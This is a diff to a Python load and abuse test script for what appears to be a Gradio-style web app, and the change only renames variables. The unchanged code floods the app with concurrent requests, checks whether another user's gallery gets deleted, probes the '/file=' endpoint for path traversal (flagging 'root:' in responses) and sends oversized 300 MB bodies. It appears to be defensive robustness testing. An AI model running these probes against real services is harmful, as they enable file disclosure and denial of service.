@@ -32,8 +32,8 @@ class Visitor(httpx.Client):
         number = next(d["id"] for d in FUNCTIONS if d["api_name"] == name)
         body = {"data": data, "fn_index": number, "session_hash": f"crowd{self.number}"}
         if way == "round":
-            answer = self.post(f"{API}/run/{name}", json=body)
-            return answer.status_code, answer.text
+            reply = self.post(f"{API}/run/{name}", json=body)
+            return reply.status_code, reply.text
         return self._stream(self.post(f"{API}/queue/join", json=body), None)
 
     def _stream(self, joined, name):
@@ -51,8 +51,8 @@ class Visitor(httpx.Client):
 
     def upload(self, data):
         """Upload a file; its path, or nothing."""
-        answer = self.post(f"{API}/upload", files={"files": ("a.png", data)})
-        return answer.json()[0] if answer.status_code == 200 else ""
+        reply = self.post(f"{API}/upload", files={"files": ("a.png", data)})
+        return reply.json()[0] if reply.status_code == 200 else ""
 
 
 FUNCTIONS = []
@@ -66,7 +66,7 @@ def look(url):
 
 def outcome(status, text):
     if '"hits"' in text or '\\"hits\\"' in text:
-        return "answered"
+        return "served"
     if "busy" in text.lower():
         return "busy"
     refused = status in (400, 403, 404, 413, 429) or '"success":false' in text or "error" in text
@@ -87,8 +87,8 @@ def crowd(url, pid, folder, requests=1000):
         def ask(i, way=way):
             with Visitor(url, i + 1) as visitor:
                 start = time.perf_counter()
-                answer = visitor.ask(way, search[0], str(i % 6), *search[1:])
-                return outcome(*answer), time.perf_counter() - start
+                reply = visitor.ask(way, search[0], str(i % 6), *search[1:])
+                return outcome(*reply), time.perf_counter() - start
 
         with ThreadPoolExecutor(100) as pool:
             found = list(pool.map(ask, range(100)))
@@ -140,7 +140,7 @@ def attack(url, pid, folder):
     done.set()
     watcher.join()
     print(
-        f"somebody else's gallery is {'there' if outcome(*kept) == 'answered' else 'GONE'}; "
+        f"somebody else's gallery is {'there' if outcome(*kept) == 'served' else 'GONE'}; "
         f"memory idle {idle:.0f}, peak {peak[0]:.0f} ({peak[0] / idle:.2f}×), "
         f"after {memory(pid):.0f} MB; {left(folder)} files left"
     )
@@ -148,8 +148,8 @@ def attack(url, pid, folder):
     print(f"found: {bad or 'nothing'}")
 
 
-def kind_of(answer):
-    status, text = answer
+def kind_of(reply):
+    status, text = reply
     return "READ A FILE" if "root:" in text or "sr-canvas" in text else outcome(status, text)
 
 
@@ -168,13 +168,13 @@ def paths(url):
                         "session_hash": "attack",
                     }
                     for way in ("queue/join", f"run/{function['api_name'] or 'predict'}"):
-                        answer = visitor.post(f"{API}/{way}", json=body)
-                        passed = answer.status_code == 200
+                        reply = visitor.post(f"{API}/{way}", json=body)
+                        passed = reply.status_code == 200
                         kinds[
-                            "PASSED ON" if passed else kind_of((answer.status_code, answer.text))
+                            "PASSED ON" if passed else kind_of((reply.status_code, reply.text))
                         ] += 1
-            answer = visitor.get(f"{API}/file={path}")
-            kinds[kind_of((answer.status_code, answer.text))] += 1
+            reply = visitor.get(f"{API}/file={path}")
+            kinds[kind_of((reply.status_code, reply.text))] += 1
     return kinds
 
 
@@ -199,8 +199,8 @@ def large_bodies(url):
             body = (bytes(1_000_000) for _ in range(300))
             headers = {"Content-Length": "300000000", "Content-Type": "application/json"}
             try:
-                answer = visitor.post(path, content=body, headers=headers)
-                kinds[kind_of((answer.status_code, answer.text))] += 1
+                reply = visitor.post(path, content=body, headers=headers)
+                kinds[kind_of((reply.status_code, reply.text))] += 1
             except httpx.TransportError:
                 kinds["cut off"] += 1
     return kinds
